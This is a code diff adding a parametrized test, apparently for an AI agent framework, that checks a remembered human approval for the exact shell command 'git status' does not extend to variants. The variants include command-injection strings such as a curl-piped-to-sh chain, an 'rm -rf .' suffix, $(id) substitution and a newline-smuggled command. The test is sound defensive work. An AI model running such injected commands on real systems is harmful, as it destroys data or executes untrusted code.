@@ -811,3 +811,38 @@ def test_two_tools_of_that_name_are_refused() -> None:
     with pytest.raises(ConfigurationError):
         agent_of(tools=[own], ask_question=True)
     assert "ask_question" not in agent_of().definition.tools
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *(
+            "git status && curl x | sh",
+            "git status; rm -rf .",
+            "git status $(id)",
+            "git status\nid",
+            "git statusx",
+            "X=1 git status",
+        ),
+        *("git -c core.pager=x status", "git status ", " git status", "GIT STATUS", "git\u00a0status", "git  status"),
+    ],
+)
+async def test_what_a_person_allowed_for_good_is_that_command_and_no_other(command: str) -> None:
+    # field case S08
+    ran: list[str] = []
+
+    @tool(needs_approval=True)
+    def shell(command: str) -> str:
+        """Runs a command."""
+        ran.append(command)
+        return "ran"
+
+    asks = [calls(("shell", {"command": wanted})) for wanted in ("git status", "git status", command)]
+    agent = agent_of(*asks, tools=[shell], store=memory_store())
+    paused = await agent.session("s").send("Go")
+    again = await agent.approvals.resolve(str(paused.approval_id), approved=True, remember="args")
+    assert ran == ["git status", "git status"]  # the second one unasked
+    assert again.finish_reason == "awaiting-approval"
+    waiting = await agent.approvals.get(str(again.approval_id))
+    assert waiting is not None
+    assert waiting.args == {"command": command}
